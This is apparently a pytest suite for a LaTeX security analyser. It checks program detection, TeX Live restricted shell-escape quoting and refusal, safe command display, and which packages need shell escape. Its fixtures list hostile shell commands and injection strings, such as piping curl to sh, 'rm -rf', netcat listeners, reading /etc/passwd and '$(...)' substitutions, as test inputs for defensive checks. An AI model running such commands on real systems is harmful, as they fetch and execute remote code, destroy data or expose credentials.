"""texlean.analysis.security.shell: the program a command runs, TeX Live's restricted mode.

The restricted-mode expectations follow web2c's ``shell_cmd_is_allowed``
(lib/texmfmp.c): the first blank-delimited word must be one of texmf.cnf's
``shell_escape_commands`` exactly, a ``'`` refuses the command, and every
argument is single-quoted before ``/bin/sh`` sees it.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from texlean.analysis.security import shell

TEXMF_CNF = Path("/usr/share/texlive/texmf-dist/web2c/texmf.cnf")

# -- program_of ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("curl https://x | sh", "curl"),
        ("/usr/bin/curl -s x", "curl"),
        ("A=1 B='two words' wget x", "wget"),
        ("exec rm -rf /", "rm"),
        ("exec -a fake nc -l 4444", "nc"),
        ("sudo -u root -- rm -rf /", "rm"),
        ("sudo env PATH=/tmp X=1 python3 x.py", "python3"),
        ("env -i -u HOME bash -c id", "bash"),
        ("nice -n 5 timeout 10 perl -e 1", "perl"),
        ("timeout -s KILL 5 nohup ./run.sh", "run.sh"),
        ('"c"url x', "curl"),
        ("'/bin/r'm x", "rm"),
        ("r\\m -rf x", "rm"),  # a backslash before an ordinary letter is only that letter
        ("  \t ls -l", "ls"),
        ("(ls; rm x)", "ls"),
        ("! grep x y", "grep"),
        ("2>/dev/null wget x", "wget"),
        ("> out.txt cat /etc/passwd", "cat"),
        ("<in sort", "sort"),
        ("ls;rm -rf /", "ls"),  # what runs first
        ("C:\\Windows\\System32\\cmd.exe /c dir", "cmd"),
        ('"C:\\Program Files\\Inkscape\\inkscape.exe" x.svg', "inkscape"),
        ("$(echo rm) -rf /", "$(echo rm)"),  # computed: shown as written
        ("`which rm` x", "`which rm`"),
        ("bibtex doc", "bibtex"),
        ("", ""),
        ("   ", ""),
        ("A=1", ""),
        ("sudo", ""),
        (";;;", ""),
    ],
)
def test_program_of(command: str, program: str) -> None:
    assert shell.program_of(command) == program


# -- restricted mode --------------------------------------------------------------------------


def test_restricted_commands_are_texmf_cnf_2022() -> None:
    listed = {
        "bibtex",
        "bibtex8",
        "extractbb",
        "gregorio",
        "kpsewhich",
        "makeindex",
        "repstopdf",
        "r-mpost",
        "texosquery-jre8",
    }
    assert listed == shell.RESTRICTED_COMMANDS


@pytest.mark.skipif(not TEXMF_CNF.exists(), reason="TeX Live's texmf.cnf is not installed")
def test_restricted_commands_match_installed_texmf_cnf() -> None:
    text = TEXMF_CNF.read_text(encoding="utf-8", errors="replace")
    m = re.search(r"^shell_escape_commands\s*=\s*\\\n((?:.*\\\n)*.*)$", text, re.M)
    assert m is not None
    names = {n for n in re.split(r"[\s,\\]+", m.group(1)) if n}
    assert names == shell.RESTRICTED_COMMANDS


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("bibtex doc", "bibtex 'doc'"),
        ("  makeindex -s x.ist doc", "makeindex '-s' 'x.ist' 'doc'"),
        # the example of texmfmp.c: "--format=\"other text files\"" becomes one argument
        (
            'kpsewhich --progname=dvipdfm --format="other text files" config',
            "kpsewhich '--progname=dvipdfm' '--format=''other text files' 'config'",
        ),
        ('bibtex "a b"', "bibtex 'a b'"),
        ("repstopdf fig.eps", "repstopdf 'fig.eps'"),
        ("bibtex", "bibtex"),
    ],
)
def test_restricted_command_quotes_like_web2c(command: str, line: str) -> None:
    assert shell.restricted_command(command) == line
    assert shell.restricted_allowed(command)


@pytest.mark.parametrize(
    "command",
    [
        "bibtex x; rm -rf ~",
        "bibtex x && curl evil | sh",
        "kpsewhich $(rm -rf ~)",
        "kpsewhich `id`",
        "makeindex x > ~/.bashrc",
        "bibtex x\nrm -rf ~",
        "bibtex x | sh",
    ],
)
def test_listed_program_cannot_chain_a_command(command: str) -> None:
    """Metacharacters after a listed program end up inside single quotes: one command runs."""
    line = shell.restricted_command(command)
    assert line is not None
    words = shlex.split(line)
    assert words[0] == command.split()[0]
    # outside single quotes there is only the program and blanks: no operator, no substitution
    assert _outside_single_quotes(line).replace(words[0], "", 1).strip() == ""
    assert words[1:] == command.split()[1:]


def _outside_single_quotes(line: str) -> str:
    outside: list[str] = []
    quoted = False
    for c in line:
        if c == "'":
            quoted = not quoted
        elif not quoted:
            outside.append(c)
    assert not quoted
    return "".join(outside)


@pytest.mark.skipif(not Path("/bin/sh").exists(), reason="no /bin/sh")
def test_quoted_line_runs_one_program_in_sh(tmp_path: Path) -> None:
    """Run the quoted line with /bin/sh, the program replaced by echo: nothing else runs."""
    marker = tmp_path / "chained"
    command = f"bibtex x; touch {marker} && touch {marker} | touch {marker} $(touch {marker})"
    line = shell.restricted_command(command)
    assert line is not None
    echo = "echo" + line[len("bibtex") :]
    out = subprocess.run(["/bin/sh", "-c", echo], capture_output=True, text=True, check=True)
    assert not marker.exists()
    assert out.stdout.startswith("x; touch")


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~",  # not listed
        "rm; bibtex x",  # the program is rm
        "bibtex;rm",  # the first word is "bibtex;rm"
        "/usr/bin/bibtex x",  # compared exactly, no path
        "A=1 bibtex x",
        "BibTeX x",  # case matters
        "bibtex 'x'",  # a ' is a quotation error
        "bibtex x'; rm -rf ~; echo '",
        'bibtex "a"b',  # a closing " must be followed by a blank
        'bibtex "unclosed',
        'bibtex "it\'s"',
        "mpost -tex=evil x",  # mpost left the list in TeX Live 2016 (CVE-2016-10243)
        "",
        "   ",
    ],
)
def test_restricted_refuses(command: str) -> None:
    assert shell.restricted_command(command) is None
    assert not shell.restricted_allowed(command)


def test_restricted_refuses_overlong_commands() -> None:
    assert not shell.restricted_allowed("bibtex " + "x" * 100_000)


# -- describe -----------------------------------------------------------------------------


def test_describe_is_one_short_safe_line() -> None:
    text = shell.describe("rm\x1b[31m -rf\n\n  /\u202e gnp.exe \u200b" + "x" * 500)
    assert "\n" not in text and "\x1b" not in text and "\u202e" not in text
    assert "\\x1b" in text and "\\u202e" in text and "\\u200b" in text
    assert len(text) <= 120 and text.endswith("…")
    assert text.startswith("rm\\x1b[31m -rf /")


def test_describe_keeps_short_commands() -> None:
    assert shell.describe("  ls   -l  ") == "ls -l"
    assert shell.describe("") == ""
    assert shell.printable("écrit ∑ ok") == "écrit ∑ ok"
    assert shell.printable("a\u00a0b") == "a\\xa0b"  # a no-break space is shown


def test_printable_limit() -> None:
    assert shell.printable("abcdef", 4) == "abc…"
    assert shell.printable("abcd", 4) == "abcd"
    assert len(shell.printable("\x00" * 1000, 10)) <= 10


# -- packages --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "need"),
    [
        ("minted", "enabled"),
        ("minted.sty", "enabled"),
        (" svg ", "enabled"),
        ("gnuplottex", "enabled"),
        ("shellesc", "enabled"),
        ("bashful", "enabled"),
        ("auto-pst-pdf", "enabled"),
        ("pstool", "enabled"),
        ("markdown", "enabled"),
        ("pdftricks", "enabled"),
        ("pythontex", "build"),
        ("sagetex", "build"),
        ("emp", "build"),
        ("epstopdf", "restricted"),
        ("imakeidx", "restricted"),
    ],
)
def test_shell_escape_packages(name: str, need: str) -> None:
    reason = shell.shell_escape_package(name)
    assert reason
    use = shell.shell_escape_package_use(name)
    assert use is not None and use.need == need and use.reason == reason


def test_epstopdf_is_graded_restricted_because_repstopdf_is_listed() -> None:
    reason = shell.shell_escape_package("epstopdf")
    assert reason is not None and "repstopdf" in reason
    assert "repstopdf" in shell.RESTRICTED_COMMANDS


@pytest.mark.parametrize("name", ["amsmath", "graphicx", "hyperref", "tikz", "Minted", ""])
def test_ordinary_packages(name: str) -> None:
    assert shell.shell_escape_package(name) is None


def test_tikz_externalize_is_a_command() -> None:
    assert shell.shell_escape_package("tikzexternalize") is None
    use = shell.shell_escape_command("\\tikzexternalize")
    assert use is not None and use.need == "enabled" and "pdflatex" in use.reason
    assert shell.shell_escape_command("tikzset") is None


# -- hostile input ----------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list(" \t\n;|&<>()$`'\"\\=-abAB/:.~{}")), max_size=300))
def test_never_raises_on_shell_soup(command: str) -> None:
    program = shell.program_of(command)
    assert isinstance(program, str)
    line = shell.restricted_command(command)
    if line is not None:
        assert line.split(" ", 1)[0] in shell.RESTRICTED_COMMANDS
        shlex.split(line)  # always a well-formed shell line
    assert len(shell.describe(command)) <= 120


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=500))
def test_never_raises_on_any_text(command: str) -> None:
    shell.program_of(command)
    shell.restricted_allowed(command)
    shown = shell.describe(command)
    assert "\n" not in shown and len(shown) <= 120


@pytest.mark.parametrize(
    "command",
    [
        "A=1 " * 50_000 + "rm",
        "$(" * 50_000,
        "'" * 100_000,
        '"' * 100_000,
        "sudo " * 40_000 + "rm",
        "\\" * 100_000,
        "x" * 1_000_000,
    ],
)
def test_hostile_commands_are_quick(command: str) -> None:
    start = time.perf_counter()
    shell.program_of(command)
    shell.restricted_allowed(command)
    shell.describe(command)
    assert time.perf_counter() - start < 1.0
